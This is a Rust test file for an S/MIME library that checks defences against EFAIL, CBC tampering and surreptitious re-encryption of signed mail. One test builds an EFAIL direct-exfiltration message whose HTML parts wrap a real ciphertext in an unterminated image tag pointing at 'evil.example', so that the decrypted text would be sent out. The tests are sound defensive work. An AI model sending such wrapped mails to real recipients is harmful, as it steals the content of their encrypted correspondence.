//! EFAIL-safe output and signature-semantics traps, through `open_mail` and
//! `process_inbound`: the caller learns whether the content is integrity-protected (AEAD,
//! signature, both, none); AES-CBC content whose inner signature fails is withheld, whether
//! the signed text or the ciphertext was changed; S/MIME parts wrapped among unprotected
//! parts (EFAIL's direct exfiltration) are not opened; a signed-then-encrypted mail
//! re-encrypted to someone else (surreptitious forwarding) is flagged through the signed,
//! header-protected recipient list.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::result_large_err,
    missing_docs
)]

mod common;

use std::sync::Arc;
use std::time::SystemTime;

use common::{contains, pkcs7_mime_der, pki, wrap_pkcs7_mime};
use smime::smime_keystore::OwnIdentity;
use smime::smime_keystore::memory::{MemoryCertStore, MemoryKeyStore};
use smime::{
    Certificate, ContentEncryptionAlgorithm, DEFAULT_PROVIDER, EncryptOptions, HeaderProtection,
    Integrity, SignOptions, SoftwareKey, VerifyOptions,
};

fn cert(user: &str) -> Certificate {
    smime::load_certificates(&std::fs::read(pki().cert(user)).unwrap()).unwrap()[0].clone()
}

fn key(user: &str) -> SoftwareKey {
    SoftwareKey::from_pem_or_der(&std::fs::read(pki().key(user)).unwrap()).unwrap()
}

const MAIL: &[u8] = b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: offer\r\n\r\nThe secret price is 42.\r\n";

fn now() -> SystemTime {
    let _ = cert("root"); // the test PKI first: its certificates start now
    SystemTime::now()
}

fn signed(protection: Option<HeaderProtection>) -> Vec<u8> {
    let mut options = SignOptions::new(now());
    options.header_protection = protection;
    smime::sign_mail(
        MAIL,
        &cert("alice"),
        &key("alice"),
        &[],
        &options,
        &DEFAULT_PROVIDER,
    )
    .unwrap()
}

fn encrypted(content: &[u8], to: &str, cipher: ContentEncryptionAlgorithm) -> Vec<u8> {
    smime::encrypt_mail(
        content,
        &[cert(to)],
        &EncryptOptions::new(now()).with_cipher(cipher),
        &DEFAULT_PROVIDER,
    )
    .unwrap()
}

fn open(mail: &[u8]) -> Result<smime::OpenReport, smime::Error> {
    let trust = [cert("root")];
    smime::open_mail(
        mail,
        Some((&cert("bob"), &key("bob"))),
        &VerifyOptions::new(&trust, SystemTime::now()),
        &DEFAULT_PROVIDER,
    )
}

fn inbound(mail: &[u8], user: &str) -> smime::InboundOutcome {
    let keys = MemoryKeyStore::new();
    keys.add(OwnIdentity {
        certificate: cert(user),
        chain: Vec::new(),
        key: Arc::new(key(user)),
    });
    let certs = MemoryCertStore::new(&DEFAULT_PROVIDER);
    let trust = [cert("root")];
    smime::process_inbound(
        mail,
        &keys,
        &certs,
        &VerifyOptions::new(&trust, SystemTime::now()),
        &DEFAULT_PROVIDER,
    )
    .unwrap()
}

fn header<'a>(outcome: &'a smime::InboundOutcome, name: &str) -> Option<&'a str> {
    outcome
        .headers
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

#[test]
fn the_report_says_how_the_content_is_protected() {
    use ContentEncryptionAlgorithm::{Aes256Cbc, Aes256Gcm};
    let cases = [
        (
            encrypted(&signed(None), "bob", Aes256Gcm),
            Integrity::AeadAndSignature,
        ),
        (
            encrypted(&signed(None), "bob", Aes256Cbc),
            Integrity::Signature,
        ),
        (encrypted(MAIL, "bob", Aes256Gcm), Integrity::Aead),
        (encrypted(MAIL, "bob", Aes256Cbc), Integrity::None),
        (signed(None), Integrity::Signature),
    ];
    for (mail, expected) in &cases {
        let report = open(mail).unwrap();
        assert_eq!(report.integrity(), *expected);
        assert_eq!(
            report.integrity().is_protected(),
            *expected != Integrity::None
        );
        assert!(contains(report.output(), b"secret price"));
    }
    // The gateway says it in a header a client can act on.
    let outcome = inbound(&cases[3].0, "bob");
    assert_eq!(header(&outcome, "X-Smime-Integrity"), Some("no"));
    let outcome = inbound(&cases[0].0, "bob");
    assert_eq!(
        header(&outcome, "X-Smime-Integrity"),
        Some("yes (authenticated encryption and signature)")
    );
}

/// `signed` with the first occurrence of `from` in the signed text replaced by `to`.
fn tampered(signed: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let at = common::find(signed, from, 0).unwrap();
    let mut out = signed[..at].to_vec();
    out.extend_from_slice(to);
    out.extend_from_slice(&signed[at + from.len()..]);
    out
}

#[test]
fn cbc_content_with_a_failing_signature_is_withheld() {
    // The signed text changed before encryption (as a CBC gadget would change it after).
    let bad = tampered(&signed(None), b"price is 42", b"price is 99");
    let cbc = encrypted(&bad, "bob", ContentEncryptionAlgorithm::Aes256Cbc);
    let err = open(&cbc).unwrap_err();
    assert!(
        matches!(err, smime::Error::UnauthenticatedContent { .. }),
        "{err:?}"
    );
    assert!(!err.to_string().contains("99"));
    // With AES-GCM the ciphertext is authenticated: the content is released, the failed
    // signature reported.
    let gcm = encrypted(&bad, "bob", ContentEncryptionAlgorithm::Aes256Gcm);
    let report = open(&gcm).unwrap();
    assert!(!report.all_signatures_good());
    assert_eq!(report.integrity(), Integrity::Aead);

    // A real bit flip in the middle of the CBC ciphertext: never released.
    let good = encrypted(&signed(None), "bob", ContentEncryptionAlgorithm::Aes256Cbc);
    let mut der = pkcs7_mime_der(&good);
    let n = der.len();
    der[n - 300] ^= 0x04;
    let flipped = wrap_pkcs7_mime(&der, "enveloped-data");
    assert!(open(&flipped).is_err());
}

#[test]
fn smime_parts_among_unprotected_parts_are_not_opened() {
    // EFAIL direct exfiltration: Bob's real encrypted mail wrapped between attacker parts.
    let stolen = encrypted(&signed(None), "bob", ContentEncryptionAlgorithm::Aes256Cbc);
    let (head, body) = common::split_head(&stolen);
    let content_type = String::from_utf8_lossy(head)
        .lines()
        .filter(|l| l.to_ascii_lowercase().starts_with("content-"))
        .collect::<Vec<_>>()
        .join("\r\n");
    let mut wrapped = b"From: mallory@evil.example\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"X\"\r\n\r\n--X\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--X\r\n".to_vec();
    wrapped.extend_from_slice(content_type.as_bytes());
    wrapped.extend_from_slice(b"\r\n\r\n");
    wrapped.extend_from_slice(body);
    wrapped.extend_from_slice(b"\r\n--X\r\nContent-Type: text/html\r\n\r\n\">\r\n--X--\r\n");
    let err = open(&wrapped).unwrap_err();
    assert!(
        matches!(err, smime::Error::MixedProtection { smime_parts: 1 }),
        "{err:?}"
    );
    let outcome = inbound(&wrapped, "bob");
    assert_eq!(header(&outcome, "X-Smime-Encrypted"), Some("no"));
    assert!(
        header(&outcome, "X-Smime-Mixed")
            .unwrap()
            .starts_with("1 S/MIME part")
    );
    assert!(!contains(&outcome.mail, b"secret price"));
    // A mail without any S/MIME part is simply not S/MIME.
    assert!(matches!(
        open(MAIL).unwrap_err(),
        smime::Error::NotSmime { .. }
    ));
}

#[test]
fn re_encryption_to_someone_else_is_flagged() {
    // Alice signs to Bob with header protection (the signed To is Bob) and encrypts to Bob.
    let signed = signed(Some(HeaderProtection::Cipher {
        neutral_subject: None,
    }));
    let to_bob = encrypted(&signed, "bob", ContentEncryptionAlgorithm::Aes256Gcm);
    let at_bob = inbound(&to_bob, "bob");
    assert_eq!(header(&at_bob, "X-Smime-Recipients"), None);
    assert!(header(&at_bob, "X-Smime-Signed").unwrap().ends_with("GOOD"));

    // Bob decrypts and re-encrypts Alice's signed words to Carol.
    let opened =
        smime::decrypt_mail(&to_bob, &cert("bob"), &key("bob"), &DEFAULT_PROVIDER).unwrap();
    let forwarded = encrypted(
        opened.output(),
        "carol",
        ContentEncryptionAlgorithm::Aes256Gcm,
    );
    let at_carol = inbound(&forwarded, "carol");
    assert!(
        header(&at_carol, "X-Smime-Signed")
            .unwrap()
            .ends_with("GOOD")
    );
    let warning = header(&at_carol, "X-Smime-Recipients").unwrap();
    assert!(warning.contains("bob@example.org"), "{warning}");
    assert!(warning.contains("carol@example.org"), "{warning}");
}
